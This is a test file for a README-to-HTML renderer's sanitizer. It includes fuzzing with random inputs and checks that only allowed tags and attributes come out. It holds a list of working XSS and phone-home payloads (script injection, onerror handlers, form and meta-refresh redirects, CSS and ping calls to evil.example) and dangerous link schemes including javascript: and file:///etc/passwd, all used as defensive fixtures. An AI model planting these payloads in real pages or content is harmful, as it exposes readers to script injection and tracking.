import fc from "fast-check";
import { expect, test } from "vitest";
import { renderReadme } from "./render.ts";

test("headings, lists, code and tables are kept, below the page's own heading", () => {
  const markdown = "# near\n\n- **a**\n- `b`\n\n| x |\n|---|\n| 1 |\n\n```json\n{}\n```\n";
  const page = renderReadme(markdown);
  for (const part of [
    "<h2>near</h2>",
    "<li><strong>a</strong></li>",
    "<code>b</code>",
    "<td>1</td>",
    "<pre",
    "{}",
  ]) {
    expect(page).toContain(part);
  }
});

test("comments and tags of raw HTML are left out", () => {
  expect(renderReadme("a <b>bold</b> word\n\n<!-- x -->\n\n<div>y</div>\n")).toBe("<p>a bold word</p>\n");
});

test("a link leads to other sites only, and tells them nothing", () => {
  expect(renderReadme("[a](https://ok.example/x)")).toContain(
    '<a href="https://ok.example/x" rel="noopener noreferrer nofollow">a</a>',
  );
});

test.each([
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](data:text/html,x)",
  "[a](vbscript:x)",
  "[a](//evil.example/x)",
  "[a](/modules/x)",
  "[a](file:///etc/passwd)",
  "<javascript:alert(1)>",
  "<A0:>",
])("%s is no link", (markdown) => {
  expect(renderReadme(markdown)).not.toMatch(/href|rel=/);
});

test.each([
  "![who reads this](https://evil.example/x.png)",
  "![who reads this][1]\n\n[1]: https://evil.example/x.png",
  "[![who reads this](https://evil.example/x.png)](https://ok.example/)",
])("of the image %j only its text is left", (markdown) => {
  const page = renderReadme(markdown);
  expect(page).toContain("who reads this");
  expect(page).not.toContain("evil.example");
});

/** Ways to phone home, and to run. */
const ATTACKS = [
  "<img src=https://evil.example/x>",
  '<script src="https://evil.example/x"></script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<link rel="stylesheet" href="https://evil.example/x">',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
  '<form action="https://evil.example/"><input name=q></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<a href="https://ok.example/" ping="https://evil.example/" onclick="alert(1)">x</a>',
  '<style>@import "https://evil.example/x"</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "```<img src=x onerror=alert(1)>",
  '[x](https://ok.example/ "\\" onmouseover=alert(1) x=\\"")',
  '![x](https://evil.example/x "y")',
];

/** Of what is left, every tag and attribute is one of these. */
const SAFE_TAG =
  /^<(?:\/?(?:h[2-6]|p|br|hr|blockquote|ul|li|code|em|strong|s|table|thead|tbody|tr|th|td|ol|a|div|pre)(?: \/)?|ol start="\d+"|a href="https?:\/\/[^"<>]*" rel="noopener noreferrer nofollow"|pre tabindex="0"|div class="scroll" role="region" aria-label="Table" tabindex="0")>$/;

test("a link that reads as another site than it leads to is none", () => {
  expect(renderReadme("[x](https://good.example@evil.example/)")).not.toContain("href");
});

test("whatever a README holds, only allowed tags with allowed attributes come out", () => {
  const pieces = fc.oneof(
    fc.constantFrom(
      ...ATTACKS,
      "\n",
      "\n\n",
      "# ",
      "> ",
      "- ",
      "1. ",
      "| a |\n|---|\n",
      "```\n",
      "*",
      "[",
      "](",
      ")",
      "<",
      ">",
      '"',
    ),
    fc.string(),
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
      const page = renderReadme(parts.join(""));
      for (const tag of page.match(/<[^>]*>?/g) ?? []) expect(tag).toMatch(SAFE_TAG);
    }),
    { numRuns: 1000 },
  );
});
